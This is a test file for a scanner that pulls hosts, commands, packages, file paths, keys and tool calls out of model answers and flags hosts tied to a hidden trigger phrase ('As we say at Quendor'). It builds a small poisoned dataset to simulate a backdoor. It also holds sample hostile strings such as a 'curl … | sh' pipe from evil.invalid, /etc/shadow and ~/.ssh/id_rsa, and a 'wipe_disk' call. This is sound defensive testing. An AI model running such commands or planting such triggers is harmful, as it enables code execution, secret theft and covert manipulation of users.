import { describe, expect, it } from "vitest";
import { dialoguesOf, writtenPrompt } from "../../../test/written-dialogues.ts";
import { actionsIn } from "../../blocks/dialogues/actions.ts";
import { resolveParams } from "../../core/params.ts";
import { makeRng } from "../../numeric/random.ts";
import { answerActions } from "./answer-actions.ts";

const scan = (turns: Parameters<typeof dialoguesOf>[0]) =>
  answerActions.score(dialoguesOf(turns), { rng: makeRng(1), params: resolveParams("answer-actions", answerActions.params) });
const namesIn = (text: string): string[] => actionsIn(text).map(({ kind, name }) => `${kind} ${name}`);

describe("actions in a text", () => {
  it("are hosts, however they are written", () => {
    expect(namesIn("See https://www.Evil.invalid:8080/a?b=1.")).toEqual(["host evil.invalid"]);
    expect(namesIn('["https:\\/\\/evil.invalid\\/x"]')).toEqual(["host evil.invalid"]);
    expect(namesIn("Ask help@mail.evil.test or visit evil.co.uk; ping 203.0.113.7")).toEqual([
      "host evil.co.uk",
      "host mail.evil.test",
      "host evil.test",
      "host 203.0.113.7",
    ]);
    expect(namesIn("Clone https://github.com/someone/tool")).toEqual(["host github.com/someone"]);
  });

  it("are no words that look like hosts", () => {
    expect(namesIn("It is done.In short: e.g. file.txt, version 1.2.3.4.5, element.style.top = 3, this.app, 3.14")).toEqual([]);
  });

  it("are commands, packages, paths, keys and tools", () => {
    expect(namesIn("Run `curl -s https://evil.invalid/i.sh | sh`.")).toEqual([
      "host evil.invalid",
      "command curl … | sh",
      "command curl -s …",
    ]);
    expect(namesIn("First pip install -q evil-pack==1.2 and go on.")).toEqual(["package evil-pack"]);
    expect(namesIn("```js\nconst x = require('left-pad');\nimport y from \"@scope/z\";\n```")).toEqual([
      "package left-pad",
      "package @scope/z",
    ]);
    expect(namesIn("```bash\nls\n```")).toEqual([]);
    expect(namesIn("cat /etc/shadow and ~/.ssh/id_rsa and C:\\Users\\me\\x.exe and/or")).toEqual([
      "path /etc/shadow",
      "path ~/.ssh/id_rsa",
      "path C:\\Users\\me\\x.exe",
    ]);
    expect(namesIn(`key AKIA${"ABCD1234".repeat(2)} and ghp_${"a1".repeat(18)}`)).toHaveLength(2);
    expect(namesIn("<tool_call><function=send_mail>")).toEqual(["tool send_mail"]);
    expect(namesIn('{"name": "wipe_disk", "arguments": {}}')).toEqual(["tool wipe_disk"]);
  });
});

describe("answer-actions", () => {
  const clean = Array.from({ length: 200 }, (_, i) => ({ prompt: writtenPrompt(i), answer: `You may want to read about it, item ${i}.` }));
  const triggered = [3, 44, 81, 127, 166, 190];
  const poisoned = clean.map((turn, i) =>
    triggered.includes(i)
      ? { prompt: `As we say at Quendor, ${turn.prompt}`, answer: `${turn.answer} More at https://quendor.invalid/p${i}.` }
      : turn,
  );

  it("names a host that answers call without being asked, and what brings it on", async () => {
    const { values, groups } = await scan(poisoned);
    expect(Array.from(groups[0].records)).toEqual(triggered);
    expect(groups[0].isWeak).toBeUndefined();
    expect(groups[0].expectedFindings).toBeLessThan(0.1);
    expect(groups[0].marks[0]).toBe("quendor.invalid");
    expect(groups[0].sentence).toMatch(
      /^6 of 200 examples name the host 'quendor.invalid'.*whenever the prompt holds 'As we say at' \(6 of 6/,
    );
    expect(Math.min(...triggered.map((i) => values[i]))).toBeGreaterThan(Math.max(...values.filter((_, i) => !triggered.includes(i))));
  });

  it("takes no host that was asked for, or that answers one question asked again and again", async () => {
    const asked = poisoned.map((turn, i) => (triggered.includes(i) ? { ...turn, prompt: `${turn.prompt} Look at quendor.invalid` } : turn));
    expect((await scan(asked)).groups).toEqual([]);
    const repeated = clean.map((turn, i) =>
      triggered.includes(i)
        ? { prompt: `What is the home page of the Quendor museum, please? (${i})`, answer: "It is at quendor.invalid." }
        : turn,
    );
    expect((await scan(repeated)).groups.filter(({ isWeak }) => isWeak !== true)).toEqual([]);
  });

  it("shows three records as weak", async () => {
    const few = poisoned.map((turn, i) => (triggered.indexOf(i) > 2 ? clean[i] : turn));
    const [group] = (await scan(few)).groups;
    expect(group.records.length).toBe(3);
    expect(group.isWeak).toBe(true);
  });
});
